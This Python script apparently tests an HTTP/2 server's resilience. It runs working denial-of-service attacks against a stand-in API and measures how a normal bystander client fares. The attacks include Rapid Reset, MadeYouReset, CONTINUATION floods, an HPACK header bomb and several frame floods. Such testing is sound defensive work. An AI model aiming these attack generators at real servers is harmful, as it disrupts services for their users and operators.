# SPDX-License-Identifier: Apache-2.0
"""Attacks on one HTTP/2 connection, in front of the stand-in API, while another client goes on. Prints one JSON object."""

import json
import sys
import threading
import time

from http2_client import Client, block, frame

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, PADDED = 0x1, 0x4, 0x8
# Long enough that what does not end an attack by itself is seen not to.
LIMIT = 20


def requests(client, path, count, first=1, end=True):
    """So many requests as one run of bytes, and their streams' numbers."""
    head = block(client.fields(path=path))
    flags = END_HEADERS | (END_STREAM if end else 0)
    streams = list(range(first, first + 2 * count, 2))
    return [frame(HEADERS, flags, stream, head) for stream in streams], streams


def rapid_reset(client):
    """CVE-2023-44487: each request is taken back in the same breath."""
    first = 1
    while True:
        heads, streams = requests(client, "/hang", 50, first)
        first = streams[-1] + 2
        yield b"".join(h + frame(RST_STREAM, 0, s, (8).to_bytes(4, "big")) for h, s in zip(heads, streams))


def made_you_reset(client):
    """CVE-2025-8671: each request is made invalid, so that the server resets it."""
    first = 1
    while True:
        heads, streams = requests(client, "/hang", 20, first)
        first = streams[-1] + 2
        yield b"".join(h + frame(WINDOW_UPDATE, 0, s, bytes(4)) for h, s in zip(heads, streams))


def overflowing_window(client):
    """CVE-2025-8671 by a window beyond its maximum."""
    first = 1
    while True:
        heads, streams = requests(client, "/hang", 20, first)
        first = streams[-1] + 2
        yield b"".join(
            h + frame(WINDOW_UPDATE, 0, s, (2**31 - 1).to_bytes(4, "big")) for h, s in zip(heads, streams))


def continuation(client):
    """CVE-2024-27316: a header block that never ends."""
    yield frame(HEADERS, END_STREAM, 1, block(client.fields()))
    # Literal without indexing, so that it means the same anywhere in a block.
    piece = b"\x00\x08x-filler\x40" + b"a" * 64
    while True:
        yield frame(CONTINUATION, 0, 1, piece) * 50


def empty_continuation(client):
    yield frame(HEADERS, END_STREAM, 1, block(client.fields()))
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def header_bomb(client):
    """Few bytes that stand for many: one large entry of the dynamic table, named again and again."""
    import hpack
    encoder = hpack.Encoder()
    base = encoder.encode(client.fields() + [("x-bomb", "b" * 3500)])
    stream = 1
    while True:
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, base + b"\xbe" * 10000)
        base = b""
        stream += 2


def settings(client):
    while True:
        yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big")) * 50


def ping(client):
    while True:
        yield frame(PING, 0, 0, b"12345678") * 50


def unread_ping(client):
    """The answers are not read, so that they pile up."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 1000


def priority(client):
    stream = 1
    while True:
        yield b"".join(frame(PRIORITY, 0, stream + 2 * i, bytes(4) + b"\x10") for i in range(100))
        stream += 200


def empty_data(client):
    yield frame(HEADERS, END_HEADERS, 1, block(client.fields("POST", "/digest")))
    while True:
        yield frame(DATA, 0, 1) * 100


def padded_data(client):
    yield frame(HEADERS, END_HEADERS, 1, block(client.fields("POST", "/digest")))
    while True:
        yield frame(DATA, PADDED, 1, b"\x00") * 100


def unknown(client):
    while True:
        yield frame(0xBB, 0, 0, b"x") * 100


def window_updates(client):
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, block(client.fields(path="/hang")))
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")) * 100


def too_many_streams(client):
    heads, _ = requests(client, "/hang", 2000)
    for head in heads:
        yield head
    while True:
        yield b""


def zero_window(client):
    """Many large responses are asked for, and none is taken."""
    heads, _ = requests(client, "/bytes?n=1000000", 100)
    yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4)) + b"".join(heads)
    while True:
        yield b""


class Bystander(threading.Thread):
    """A client that does nothing wrong."""

    def __init__(self):
        super().__init__(daemon=True)
        self.stopped = False
        self.times = []
        self.failures = 0

    def run(self):
        client = Client()
        while not self.stopped:
            start = time.monotonic()
            answer = client.get("/version")
            if answer.status != 200 or not answer.ended:
                self.failures += 1
                client.close()
                client = Client()
            self.times.append((time.monotonic() - start) * 1000)
            time.sleep(0.005)

    def p99(self):
        return sorted(self.times)[int(len(self.times) * 0.99)] if self.times else -1


def attack(make, reads):
    bystander = Bystander()
    bystander.start()
    time.sleep(1)
    calm = bystander.p99()
    bystander.times = []
    client = Client(receive_buffer=None if reads else 4096)
    client.receive(time.monotonic() + 1)
    sent = 0
    start = time.monotonic()
    client.socket.settimeout(2)
    ended = None
    for piece in make(client):
        if time.monotonic() - start > LIMIT:
            break
        try:
            if piece:
                client.socket.settimeout(2)
                client.raw(piece)
                sent += len(piece)
            else:
                time.sleep(0.01)
        except TimeoutError:
            continue
        except OSError:
            ended = time.monotonic() - start
            break
        if reads:
            read(client)
            if client.closed or client.goaway is not None:
                ended = time.monotonic() - start
                break
    if client.goaway is None and not client.closed:
        deadline = time.monotonic() + 2
        while time.monotonic() < deadline and not client.closed and client.goaway is None:
            read(client, 0.2)
    time.sleep(0.5)
    bystander.stopped = True
    bystander.join(10)
    return {"seconds": ended, "goaway": client.goaway, "bytes": sent, "calm": calm, "p99": bystander.p99(),
            "served": len(bystander.times), "failures": bystander.failures}


BUFFER = bytearray()


def read(client, limit=0.0005):
    """Looks for GOAWAY in what comes; h2 itself would find much of the rest an error."""
    client.socket.settimeout(limit)
    try:
        data = client.socket.recv(65536)
    except (TimeoutError, OSError) as error:
        client.closed = not isinstance(error, TimeoutError)
        return
    if not data:
        client.closed = True
        return
    BUFFER.extend(data)
    while len(BUFFER) >= 9:
        length = int.from_bytes(BUFFER[:3], "big")
        if len(BUFFER) < 9 + length:
            return
        if BUFFER[3] == 0x7:
            client.goaway = int.from_bytes(BUFFER[13:17], "big")
        del BUFFER[:9 + length]


if __name__ == "__main__":
    cases = {
        "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "overflowing-window": overflowing_window,
        "continuation": continuation, "empty-continuation": empty_continuation, "header-bomb": header_bomb,
        "settings": settings, "ping": ping, "priority": priority, "empty-data": empty_data,
        "padded-data": padded_data, "unknown": unknown, "window-updates": window_updates,
        "too-many-streams": too_many_streams, "zero-window": zero_window, "unread-ping": unread_ping,
    }
    print(json.dumps(attack(cases[sys.argv[1]], reads=not sys.argv[1].startswith("unread"))))
